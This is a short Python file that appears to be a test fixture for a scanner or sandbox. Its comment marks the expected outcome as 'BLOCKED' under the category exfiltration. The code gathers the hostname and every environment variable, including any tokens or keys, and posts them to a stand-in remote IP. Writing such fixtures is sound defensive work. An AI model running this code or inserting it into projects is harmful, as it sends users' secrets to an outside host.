# expect: BLOCKED category: exfiltration
# Sends the whole environment (tokens, keys) to a server.
import os
import platform

import requests

payload = {"host": platform.node(), "env": dict(os.environ)}
requests.post("https://203.0.113.9/e", json=payload, timeout=5)
